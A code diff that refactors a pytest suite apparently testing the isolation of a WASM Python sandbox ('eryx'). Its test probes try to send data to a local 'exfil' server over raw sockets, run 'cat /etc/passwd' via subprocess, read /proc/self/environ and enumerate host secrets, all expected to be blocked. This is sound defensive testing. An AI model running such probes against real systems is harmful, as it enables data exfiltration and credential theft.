@@ -13,8 +13,9 @@ Tests cover:
 """
 
 import os
-import socket
+import sys
 import threading
+import uuid
 from http.server import HTTPServer, BaseHTTPRequestHandler
 
 import eryx
@@ -27,20 +28,28 @@ import pytest
 
 
 class ExfilRequestHandler(BaseHTTPRequestHandler):
-    """HTTP handler that records all requests for verification."""
+    """HTTP handler that records all requests for verification.
+
+    Requests are bucketed by the first path segment so that tests sharing
+    the server only see their own traffic.
+    """
 
-    received_data = []
+    received_data = {}
     lock = threading.Lock()
 
     def log_message(self, format, *args):
         pass
 
-    def do_GET(self):
+    def _record(self, entry):
+        bucket = self.path.lstrip("/").split("/", 1)[0]
         with self.lock:
-            self.received_data.append({
-                "path": self.path,
-                "headers": dict(self.headers),
-            })
+            self.received_data.setdefault(bucket, []).append(entry)
+
+    def do_GET(self):
+        self._record({
+            "path": self.path,
+            "headers": dict(self.headers),
+        })
         self.send_response(200)
         self.send_header("Content-Length", "2")
         self.end_headers()
@@ -49,36 +58,58 @@ class ExfilRequestHandler(BaseHTTPRequestHandler):
     def do_POST(self):
         content_length = int(self.headers.get("Content-Length", 0))
         body = self.rfile.read(content_length)
-        with self.lock:
-            self.received_data.append({
-                "path": self.path,
-                "headers": dict(self.headers),
-                "body": body.decode("utf-8", errors="replace"),
-            })
+        self._record({
+            "path": self.path,
+            "headers": dict(self.headers),
+            "body": body.decode("utf-8", errors="replace"),
+        })
         self.send_response(200)
         self.send_header("Content-Length", "2")
         self.end_headers()
         self.wfile.write(b"OK")
 
 
-def find_free_port():
-    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
-        s.bind(("127.0.0.1", 0))
-        return s.getsockname()[1]
-
-
-@pytest.fixture
-def exfil_server():
-    """Start an exfiltration server that records all requests."""
-    ExfilRequestHandler.received_data = []
-    port = find_free_port()
-    server = HTTPServer(("127.0.0.1", port), ExfilRequestHandler)
+@pytest.fixture(scope="session")
+def _exfil_httpd():
+    """Start one exfiltration server for the whole session."""
+    server = HTTPServer(("127.0.0.1", 0), ExfilRequestHandler)
+    port = server.server_port
     thread = threading.Thread(target=server.serve_forever, daemon=True)
     thread.start()
-    yield ("127.0.0.1", port, ExfilRequestHandler.received_data)
+    yield ("127.0.0.1", port)
     server.shutdown()
 
 
+@pytest.fixture
+def exfil_server(_exfil_httpd):
+    """Give a test its own path prefix on the shared exfiltration server.
+
+    Returns a tuple of (host, port, prefix, received) where ``received``
+    collects every request made under ``/<prefix>/``.
+    """
+    host, port = _exfil_httpd
+    prefix = uuid.uuid4().hex
+    with ExfilRequestHandler.lock:
+        received = ExfilRequestHandler.received_data.setdefault(prefix, [])
+    yield (host, port, prefix, received)
+    with ExfilRequestHandler.lock:
+        ExfilRequestHandler.received_data.pop(prefix, None)
+
+
+@pytest.fixture(scope="class")
+def default_network_sandbox():
+    """A sandbox with the default NetConfig, shared within a test class.
+
+    Blocked connects are rejected by the host before any packet is sent, so
+    a short execution timeout turns an unexpected pass-through hang into a
+    fast failure.
+    """
+    return eryx.Sandbox(
+        network=eryx.NetConfig(),
+        resource_limits=eryx.ResourceLimits(execution_timeout_ms=5000),
+    )
+
+
 # =============================================================================
 # 1. Host Environment Isolation
 # =============================================================================
@@ -87,10 +118,10 @@ def exfil_server():
 class TestHostEnvironmentIsolation:
     """Verify sandbox cannot access host environment variables."""
 
-    def test_sandbox_cannot_read_host_env_vars(self):
+    def test_sandbox_cannot_read_host_env_vars(self, monkeypatch):
         """Sandbox code should NOT see the host's environment variables."""
         # Set a "secret" in the host environment
-        os.environ["TEST_HOST_SECRET"] = "host-secret-value-12345"
+        monkeypatch.setenv("TEST_HOST_SECRET", "host-secret-value-12345")
 
         sandbox = eryx.Sandbox()
         result = sandbox.execute("""
@@ -99,17 +130,14 @@ host_val = os.environ.get("TEST_HOST_SECRET", "NOT_FOUND")
 print(f"HOST_SECRET: {host_val}")
 """)
 
-        # Clean up
-        del os.environ["TEST_HOST_SECRET"]
-
         assert "host-secret-value-12345" not in result.stdout, \
             "Host environment variables must NOT be visible inside sandbox"
         assert "NOT_FOUND" in result.stdout, \
             "Sandbox should return NOT_FOUND for host env vars"
 
-    def test_sandbox_cannot_enumerate_host_env(self):
+    def test_sandbox_cannot_enumerate_host_env(self, monkeypatch):
         """Sandbox code should not see sensitive host env vars."""
-        os.environ["EXFIL_TEST_SECRET"] = "exfil-me-12345"
+        monkeypatch.setenv("EXFIL_TEST_SECRET", "exfil-me-12345")
 
         sandbox = eryx.Sandbox()
         result = sandbox.execute("""
@@ -123,8 +151,6 @@ for f in found:
     print(f"LEAK: {f}")
 """)
 
-        del os.environ["EXFIL_TEST_SECRET"]
-
         assert "exfil-me-12345" not in result.stdout, \
             "Host env vars must not be enumerable from sandbox"
 
@@ -159,6 +185,43 @@ except Exception as e:
 # =============================================================================
 
 
+# Exfiltration probes read PORT and PREFIX from a header line prepended by
+# _exfil_script(), so the probe bodies stay identical across runs.
+_EXFIL_CONNECT_SRC = r"""
+import socket
+try:
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    sock.connect(("127.0.0.1", PORT))
+    sock.send(f"GET /{PREFIX}/exfil HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode())
+    print("BYPASS: connected to localhost when only api.example.com allowed!")
+except Exception as e:
+    print(f"BLOCKED: {type(e).__name__}")
+"""
+
+_EXFIL_POST_SRC = r"""
+import socket
+
+# This is data that should stay in the sandbox
+sensitive_data = "internal_computation_result_42"
+
+sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+sock.connect(("127.0.0.1", PORT))
+request = (
+    f"POST /{PREFIX}/exfil HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+    f"Content-Length: {len(sensitive_data)}\r\n\r\n{sensitive_data}"
+)
+sock.send(request.encode())
+response = sock.recv(4096)
+sock.close()
+print("SENT")
+"""
+
+
+def _exfil_script(src, port, prefix):
+    """Prepend the exfil server coordinates to a probe body."""
+    return f"PORT = {port}\nPREFIX = {prefix!r}\n{src}"
+
+
 class TestNetworkSecurityPython:
     """Test network security via the Python bindings layer."""
 
@@ -178,11 +241,11 @@ except Exception as e:
         assert "BYPASS" not in result.stdout, \
             "Sandbox without network config must block all connections"
 
-    def test_network_sandbox_blocks_localhost_by_default(self):
+    def test_network_sandbox_blocks_localhost_by_default(
+        self, default_network_sandbox
+    ):
         """Default NetConfig should block localhost connections."""
-        config = eryx.NetConfig()  # Default blocks localhost
-        sandbox = eryx.Sandbox(network=config)
-        result = sandbox.execute("""
+        result = default_network_sandbox.execute("""
 import socket
 try:
     sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
@@ -195,17 +258,16 @@ except Exception as e:
         assert "BYPASS" not in result.stdout, \
             "Default NetConfig must block localhost"
 
-    def test_network_sandbox_blocks_private_networks(self):
+    def test_network_sandbox_blocks_private_networks(
+        self, default_network_sandbox
+    ):
         """Default NetConfig should block private network ranges."""
-        config = eryx.NetConfig()
-        sandbox = eryx.Sandbox(network=config)
-        result = sandbox.execute("""
+        result = default_network_sandbox.execute("""
 import socket
 blocked = 0
 for addr in ["10.0.0.1", "172.16.0.1", "192.168.1.1"]:
     try:
         sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        sock.settimeout(0.5)
         sock.connect((addr, 80))
         print(f"BYPASS: connected to {addr}!")
     except Exception:
@@ -218,53 +280,33 @@ print(f"BLOCKED_COUNT: {blocked}")
 
     def test_allowed_host_restriction(self, exfil_server):
         """Sandbox with allowed_hosts should only connect to allowed hosts."""
-        host, port, received = exfil_server
+        host, port, prefix, received = exfil_server
         # Only allow connections to a specific host (not localhost)
         config = eryx.NetConfig().allow_host("api.example.com")
         sandbox = eryx.Sandbox(network=config)
 
-        result = sandbox.execute(f"""
-import socket
-try:
-    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-    sock.connect(("127.0.0.1", {port}))
-    sock.send(b"GET /exfil HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n")
-    print("BYPASS: connected to localhost when only api.example.com allowed!")
-except Exception as e:
-    print(f"BLOCKED: {{type(e).__name__}}")
-""")
+        result = sandbox.execute(
+            _exfil_script(_EXFIL_CONNECT_SRC, port, prefix)
+        )
 
         assert "BYPASS" not in result.stdout, \
             "Sandbox must not connect to hosts outside allowed list"
 
     def test_data_exfiltration_via_http(self, exfil_server):
         """Test that sandbox data cannot reach unauthorized servers."""
-        host, port, received = exfil_server
+        host, port, prefix, received = exfil_server
         config = eryx.NetConfig.permissive().allow_localhost()
         sandbox = eryx.Sandbox(network=config)
 
         # Put some "secret" data in the sandbox and try to exfiltrate
-        result = sandbox.execute(f"""
-import socket
-
-# This is data that should stay in the sandbox
-sensitive_data = "internal_computation_result_42"
-
-sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-sock.connect(("127.0.0.1", {port}))
-request = f"POST /exfil HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nContent-Length: {{len(sensitive_data)}}\\r\\n\\r\\n{{sensitive_data}}"
-sock.send(request.encode())
-response = sock.recv(4096)
-sock.close()
-print("SENT")
-""")
+        result = sandbox.execute(_exfil_script(_EXFIL_POST_SRC, port, prefix))
 
         # With permissive config, the data can reach the server.
         # This test documents that without host restrictions,
         # data CAN be exfiltrated. The defense is host-level restrictions.
-        # This is expected behavior.
-        import time
-        time.sleep(0.2)
+        # This is expected behavior. The probe waits for the response, and
+        # the handler records the request before replying, so there is no
+        # need to wait here.
         if received:
             # The point here is that with proper NetConfig restrictions,
             # this would be blocked. This test documents the baseline.
@@ -279,10 +321,9 @@ print("SENT")
 class TestSandboxEscapeAttempts:
     """Attempts to escape the WASM sandbox from Python code."""
 
-    def test_cannot_import_ctypes(self):
+    def test_cannot_import_ctypes(self, default_sandbox):
         """ctypes would allow arbitrary memory access - must be blocked."""
-        sandbox = eryx.Sandbox()
-        result = sandbox.execute("""
+        result = default_sandbox.execute("""
 try:
     import ctypes
     print("BYPASS: ctypes imported!")
@@ -293,10 +334,9 @@ except ImportError as e:
         assert "BYPASS" not in result.stdout, \
             "ctypes must not be importable in sandbox"
 
-    def test_cannot_import_subprocess(self):
+    def test_cannot_import_subprocess(self, default_sandbox):
         """subprocess would allow arbitrary command execution."""
-        sandbox = eryx.Sandbox()
-        result = sandbox.execute("""
+        result = default_sandbox.execute("""
 try:
     import subprocess
     result = subprocess.run(["cat", "/etc/passwd"], capture_output=True)
@@ -308,10 +348,12 @@ except Exception as e:
         assert "BYPASS" not in result.stdout, \
             "subprocess must not work in sandbox"
 
-    def test_cannot_access_host_proc(self):
+    @pytest.mark.skipif(
+        sys.platform != "linux", reason="/proc only exists on Linux hosts"
+    )
+    def test_cannot_access_host_proc(self, default_sandbox):
         """Sandbox should not be able to read /proc/self/environ."""
-        sandbox = eryx.Sandbox()
-        result = sandbox.execute("""
+        result = default_sandbox.execute("""
 try:
     with open("/proc/self/environ", "rb") as f:
         env = f.read()
@@ -323,10 +365,9 @@ except Exception as e:
         assert "BYPASS" not in result.stdout, \
             "Sandbox must not access /proc filesystem"
 
-    def test_cannot_use_eval_exec_for_escape(self):
+    def test_cannot_use_eval_exec_for_escape(self, default_sandbox):
         """eval/exec should still be sandboxed."""
-        sandbox = eryx.Sandbox()
-        result = sandbox.execute("""
+        result = default_sandbox.execute("""
 try:
     exec("import os; print('HOME:', os.environ.get('HOME', 'NOT_SET'))")
 except Exception as e:
@@ -339,10 +380,9 @@ except Exception as e:
             assert home not in result.stdout, \
                 "exec'd code must not access host HOME directory"
 
-    def test_cannot_use_compile_for_escape(self):
+    def test_cannot_use_compile_for_escape(self, default_sandbox):
         """compile() should still be sandboxed."""
-        sandbox = eryx.Sandbox()
-        result = sandbox.execute("""
+        result = default_sandbox.execute("""
 try:
     code = compile("import os; print(os.listdir('/'))", "<string>", "exec")
     exec(code)
@@ -354,10 +394,9 @@ except Exception as e:
         assert "/etc" not in result.stdout or "BLOCKED" in result.stdout or "ERROR" in result.stdout, \
             "Compiled code must be sandboxed"
 
-    def test_gc_cannot_leak_objects(self):
+    def test_gc_cannot_leak_objects(self, default_sandbox):
         """GC traversal should not expose host objects."""
-        sandbox = eryx.Sandbox()
-        result = sandbox.execute("""
+        result = default_sandbox.execute("""
 import gc
 try:
     objects = gc.get_objects()
@@ -400,14 +439,10 @@ except Exception as e:
         assert "BYPASS" not in result.stdout, \
             "Memory bomb should be prevented by resource limits"
 
-    def test_infinite_loop_timeout(self):
+    def test_infinite_loop_timeout(self, timeout_sandbox):
         """Infinite loops should be killed by timeout."""
-        sandbox = eryx.Sandbox(resource_limits=eryx.ResourceLimits(
-            execution_timeout_ms=1000,  # 1 second timeout
-        ))
-
         try:
-            result = sandbox.execute("""
+            result = timeout_sandbox.execute("""
 while True:
     pass
 """)
@@ -424,6 +459,9 @@ while True:
 # =============================================================================
 
 
+_TOKEN_SECRETS = {"TOKEN": {"value": "ghp-real-token"}}
+
+
 class TestSecretsAPI:
     """Tests for the secrets API in Python bindings."""
 
@@ -460,29 +498,10 @@ print(val)
         output = result.stdout.strip()
         assert len(output) > 0, "Placeholder should be non-empty"
 
-    def test_scrub_stdout_redacts_placeholder(self):
-        """With scrub_stdout=True (default with secrets), placeholder is redacted."""
-        sandbox = eryx.Sandbox(
-            secrets={"TOKEN": {"value": "ghp-real-token"}},
-            scrub_stdout=True,
-        )
-        result = sandbox.execute("""
-import os
-token = os.environ.get("TOKEN", "")
-print(f"Token: {token}")
-""")
-        assert "ghp-real-token" not in result.stdout, \
-            "Real secret must not appear in stdout"
-        # The placeholder should be scrubbed to [REDACTED]
-        assert "[REDACTED]" in result.stdout, \
-            "Placeholder should be scrubbed to [REDACTED] in stdout"
-
-    def test_scrub_stdout_disabled(self):
-        """With scrub_stdout=False, placeholder passes through."""
-        sandbox = eryx.Sandbox(
-            secrets={"TOKEN": {"value": "ghp-real-token"}},
-            scrub_stdout=False,
-        )
+    @pytest.mark.parametrize("scrub", [True, False])
+    def test_scrub_stdout(self, scrub):
+        """scrub_stdout controls whether the placeholder is redacted."""
+        sandbox = eryx.Sandbox(secrets=_TOKEN_SECRETS, scrub_stdout=scrub)
         result = sandbox.execute("""
 import os
 token = os.environ.get("TOKEN", "")
@@ -490,9 +509,12 @@ print(f"Token: {token}")
 """)
         assert "ghp-real-token" not in result.stdout, \
             "Real secret must never appear in stdout"
-        # With scrubbing disabled, the placeholder should appear raw
-        assert "[REDACTED]" not in result.stdout, \
-            "With scrub_stdout=False, placeholder should not be redacted"
+        if scrub:
+            assert "[REDACTED]" in result.stdout, \
+                "Placeholder should be scrubbed to [REDACTED] in stdout"
+        else:
+            assert "[REDACTED]" not in result.stdout, \
+                "With scrub_stdout=False, placeholder should not be redacted"
 
     def test_multiple_secrets(self):
         """Multiple secrets can be configured."""